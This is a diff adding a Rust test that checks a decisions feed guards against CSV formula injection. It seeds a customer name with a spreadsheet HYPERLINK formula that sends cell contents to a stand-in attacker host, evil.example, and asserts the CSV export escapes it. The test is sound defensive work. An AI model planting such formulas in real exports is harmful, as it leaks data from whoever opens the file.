@@ -1027,6 +1027,37 @@ db_tests! {
         assert_eq!(access_record::Entity::find().filter(access_record::Column::RequestId.eq(request_id)).count(&app.db).await.unwrap(), 0);
     }
 
+    async fn feed_cells_a_spreadsheet_would_execute_are_neutralised(app) {
+        // A customer named like a formula (CSV injection): Excel would run it when the officer
+        // opens the feed. The CSV carries it with a leading apostrophe; Parquet as it is.
+        const NAME: &str = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")";
+        let (inside, _) = seeded(&app).await;
+        let case_id = count_sql(&app.db, &format!("SELECT case_id FROM determination WHERE id = {inside}")).await;
+        let customer_id = count_sql(&app.db, &format!("SELECT customer_id FROM upc_case WHERE id = {case_id}")).await;
+        let customer = entities::customer::Entity::find_by_id(customer_id).one(&app.db).await.unwrap().unwrap();
+        let mut renamed: entities::customer::ActiveModel = customer.into();
+        renamed.display_name = Set(NAME.to_string());
+        renamed.update(&app.db).await.unwrap();
+        let ls = app.token(Role::LegalServices, &[]);
+        let text = get_as(&app, Some(&ls), &format!("/feeds/decisions?{YEAR}"), &[]).await.text().await.unwrap();
+        // Read back with the csv crate, as a spreadsheet import would.
+        let mut reader = ::csv::Reader::from_reader(text.as_bytes());
+        let header = reader.headers().unwrap().clone();
+        let name_at = header.iter().position(|h| h == "customer_name").unwrap();
+        let id_at = header.iter().position(|h| h == "decision_id").unwrap();
+        let rows: Vec<::csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
+        let row = rows.iter().find(|r| &r[0] == "determination" && r[id_at] == inside.to_string()).expect("the renamed customer's determination");
+        assert_eq!(&row[name_at], format!("'{NAME}"));
+        for record in &rows {
+            for cell in record.iter() {
+                assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "a cell starts like a formula: {cell:?}");
+            }
+        }
+        let parquet = get_as(&app, Some(&ls), &format!("/feeds/decisions?{YEAR}&format=parquet"), &[]).await.bytes().await.unwrap();
+        let (_, rows) = read_parquet(parquet);
+        assert!(rows.iter().any(|r| r.last().map(String::as_str) == Some(NAME)), "Parquet keeps the name");
+    }
+
     async fn the_restrictions_feed_equals_an_independent_query(app) {
         seeded(&app).await;
         let (from, to) = (day(2024, 4, 1), day(2025, 3, 31));
